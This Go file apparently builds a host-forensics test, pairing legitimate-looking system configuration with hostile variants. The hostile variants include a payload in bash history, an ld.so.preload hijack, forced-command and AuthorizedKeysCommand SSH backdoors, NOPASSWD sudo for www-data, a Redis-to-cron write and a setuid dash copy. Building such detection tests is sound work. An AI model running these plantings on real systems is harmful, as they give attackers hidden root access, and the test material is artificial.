package lab

import "fmt"

// someKey is a public key that nobody has the private half of; n tells several apart.
func someKey(n int) string {
	return fmt.Sprintf("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA%042d", n)
}

const authorized = "cat >> /root/.ssh/authorized_keys <<'E'\n%sE\n"

// access is about who may come in and become root, and what loads into every program.
var access = []lookAlike{
	{"installers-in-history", 13, planting{
		sh: "t=$(($(date +%s)-400000)); for c in 'curl -sfL https://get.k3s.io | sh -' 'curl -fsSL https://get.docker.com | sh' \"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\"; do " +
			"t=$((t+86400)); printf '#%s\\n%s\\n' $t \"$c\" >> /root/.bash_history; done",
		also: []string{"/root/.bash_history"},
	}, planting{
		sh: "printf '#%s\\n%s\\n' $(date +%s) '" + payload + "' >> /root/.bash_history", also: []string{"/root/.bash_history"},
	}},
	{"preloaded-agent", 21, planting{
		sh:   "cp /lib/x86_64-linux-gnu/libdl.so.2 /usr/lib/x86_64-linux-gnu/libsnoopy.so && echo /usr/lib/x86_64-linux-gnu/libsnoopy.so > /etc/ld.so.preload",
		also: []string{"/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsnoopy.so"},
	}, planting{
		sh: "mkdir -p /usr/local/lib/.cache && cp /lib/x86_64-linux-gnu/libdl.so.2 /usr/local/lib/.cache/libproc.so && chmod 777 /usr/local/lib/.cache && " +
			"echo /usr/local/lib/.cache/libproc.so > /etc/ld.so.preload",
		also: []string{"/etc/ld.so.preload", "/usr/local/lib/.cache/libproc.so"},
	}},
	{"managed-keys", 25, planting{
		sh:   fmt.Sprintf(authorized, someKey(1)+" jumpserver@bastion\n"+someKey(2)+" jenkins@ci\n# Added by Google\n"+someKey(3)+" google-ssh {\"userName\":\"ops@example.com\",\"expireOn\":\"2027-01-01T00:00:00+0000\"}\n"),
		also: []string{keysFile},
	}, planting{
		sh: fmt.Sprintf(authorized, "command=\""+payload+"\" "+someKey(4)+" jumpserver@bastion\n"), also: []string{keysFile},
	}},
	{"keys-by-command", 26, planting{
		files: []file{
			{path: "/usr/share/ec2-instance-connect/eic_run_authorized_keys", mode: 0o755, text: "#!/bin/sh\nexit 0\n"},
			{path: "/etc/ssh/sshd_config.d/60-ec2-instance-connect.conf", text: "AuthorizedKeysCommand /usr/share/ec2-instance-connect/eic_run_authorized_keys %u %f\nAuthorizedKeysCommandUser nobody\n"},
		},
		sh: "systemctl reload ssh",
	}, planting{
		files: []file{
			{path: "/var/tmp/.keys", mode: 0o777, text: "#!/bin/sh\necho '" + someKey(5) + "'\n"},
			{path: "/etc/ssh/sshd_config.d/60-keys.conf", text: "AuthorizedKeysCommand /var/tmp/.keys %u\nAuthorizedKeysCommandUser root\n"},
		},
		sh: "systemctl reload ssh",
	}},
	{"cloud-init-sudo", 27, planting{
		files: []file{{path: "/etc/sudoers.d/90-cloud-init-users", mode: 0o440, text: "# Created by cloud-init v. 22.4.2\n\n# User rules for debian\ndebian ALL=(ALL) NOPASSWD:ALL\n"}},
	}, planting{
		files: []file{{path: "/etc/sudoers.d/90-cloud-init-users", mode: 0o440, text: "www-data ALL=(ALL) NOPASSWD:ALL\n"}},
	}},
	{"cloud-image-settings", 28, planting{
		files: []file{{path: "/etc/selinux/config", text: "SELINUX=disabled\nSELINUXTYPE=targeted\n"}},
		sh:    "chattr +i /etc/resolv.conf", also: []string{"/etc/resolv.conf"},
	}, planting{}},
	{"database-pages", 29, planting{
		files: []file{{path: "/etc/sysctl.d/97-oracle.conf", text: "vm.nr_hugepages = 1280\nkernel.nmi_watchdog = 0\n"}},
	}, planting{}},
	{"redis-in-root", 32, planting{
		sh: "cd /root && systemd-run -q --unit redis-6390 -p WorkingDirectory=/root redis-server --port 6390 --bind 127.0.0.1 --save 3600 1 && " +
			"for i in $(seq 100); do redis-cli -p 6390 CONFIG GET dir 2>/dev/null | grep -qx /root && exit 0; sleep 0.1; done; exit 1",
		units: []string{"redis-6390"},
	}, planting{
		sh: "systemd-run -q --unit redis-6390 redis-server --port 6390 --bind 127.0.0.1 --save 3600 1 --dir /etc/cron.d --dbfilename zabbix --rdbcompression no && " +
			"for i in $(seq 100); do redis-cli -p 6390 PING 2>/dev/null | grep -q PONG && break; sleep 0.1; done; " +
			"printf 'SET backup3 \"\\\\n\\\\n" + schedule + " root " + payload + "\\\\n\\\\n\"\\nSAVE\\n' | redis-cli -p 6390",
		also: []string{"/etc/cron.d/zabbix"}, units: []string{"redis-6390"},
	}},
	{"id-map-helpers", 35, planting{
		sh:   "for f in newuidmap newgidmap; do [ -e /usr/bin/$f ] || cp /usr/local/bin/pigz /usr/bin/$f; chmod 4755 /usr/bin/$f; done",
		also: []string{"/usr/bin/newuidmap", "/usr/bin/newgidmap"},
	}, planting{
		sh: "cp /bin/dash /var/tmp/.newuidmap && chmod 4755 /var/tmp/.newuidmap", also: []string{"/var/tmp/.newuidmap"},
	}},
}
